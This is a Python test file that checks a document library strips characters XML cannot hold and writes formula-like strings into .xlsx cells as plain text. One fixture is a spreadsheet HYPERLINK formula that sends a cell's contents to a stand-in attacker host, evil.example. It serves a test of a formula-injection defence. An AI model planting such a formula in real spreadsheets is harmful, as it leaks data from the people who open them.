"""The normaliser and the .xlsx / .docx writers with text no XML can hold (issue #19, 2 and 3)."""

import io
from datetime import date, datetime

from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from keshi.documents import xlsx
from keshi.documents.docx import DocBuilder
from keshi.documents.text import has_control_chars, strip_control_chars


def _xml_char(c: str) -> bool:
    """XML 1.0's Char production, read from the standard rather than from the module."""
    n = ord(c)
    return c in "\t\n\r" or 0x20 <= n <= 0xD7FF or 0xE000 <= n <= 0xFFFD or n >= 0x10000


ODD = [chr(n) for n in range(32)] + ["\ud800", "\udfff", "\ufffe", "\uffff", "\x7f", "\x85"]


@given(st.text(st.one_of(st.characters(), st.sampled_from(ODD))))
def test_what_is_left_every_writer_takes(text):
    clean = strip_control_chars(text)
    assert clean == "".join(c for c in text if _xml_char(c))
    assert not ILLEGAL_CHARACTERS_RE.search(clean)
    assert not has_control_chars(clean) and strip_control_chars(clean) == clean
    workbook = Workbook()
    xlsx.put(workbook.active["A1"], text)
    doc = DocBuilder()
    doc.paragraph(text)
    doc.table(["列"], [[text]])
    doc.to_bytes()


def test_tabs_line_breaks_and_chinese_stay():
    assert (
        strip_control_chars("王\u0002老师\t甲\r\n乙\u000b\u0000\ufffe\uffff\ud800")
        == "王老师\t甲\r\n乙"
    )
    assert strip_control_chars("𠮷 ﬁ ¥") == "𠮷 ﬁ ¥"


def _round_trip(workbook):
    return load_workbook(io.BytesIO(xlsx.to_bytes(workbook))).active


def test_text_is_text_and_values_keep_their_type():
    workbook = Workbook()
    sheet = workbook.active
    formula = '=HYPERLINK("http://evil.example/?"&B5,"王老师")'
    xlsx.append(sheet, [formula, "+1", "-42", "@SUM(A1)", "#N/A", "王\u0001老师", "甲"])
    xlsx.append(sheet, [3, 2.5, date(2026, 9, 1), datetime(2026, 9, 1, 8, 30), True, None])
    xlsx.put(sheet["A3"], "x" * 40000)
    sheet["B3"] = "=1+1"  # a writer that forgot the helper: to_bytes still makes it text
    read = _round_trip(workbook)
    first = list(read[1])
    assert [c.value for c in first] == [formula, "+1", "-42", "@SUM(A1)", "#N/A", "王老师", "甲"]
    assert all(c.data_type == "s" for c in first)
    assert [c.quotePrefix for c in first] == [True, True, True, True, False, False, False]
    second = list(read[2])
    assert [c.value for c in second[:5]] == [
        3,
        2.5,
        datetime(2026, 9, 1),
        datetime(2026, 9, 1, 8, 30),
        True,
    ]
    assert [c.data_type for c in second[:5]] == ["n", "n", "d", "d", "b"]
    assert len(read["A3"].value) == xlsx.MAX_CELL_CHARS
    assert read["B3"].value == "=1+1" and read["B3"].data_type == "s"


def test_docx_drops_control_characters_and_reads_crlf_as_one_break():
    doc = DocBuilder()
    doc.title("标题\u0001", "副\u0002标题")
    doc.heading("一、\u000b指导思想")
    doc.paragraphs("第一段\u0003\r\n（一）小标题\u0004")
    doc.table(["姓名\u0005"], [["王\u0002老师\r\n第二行"]])
    read = Document(io.BytesIO(doc.to_bytes()))
    texts = [p.text for p in read.paragraphs if p.text]
    assert texts == ["标题", "副标题", "一、指导思想", "第一段", "（一）小标题"]
    cell = read.tables[0].rows[1].cells[0]
    assert [p.text for p in cell.paragraphs] == ["王老师", "第二行"]
    assert read.tables[0].rows[0].cells[0].text == "姓名"
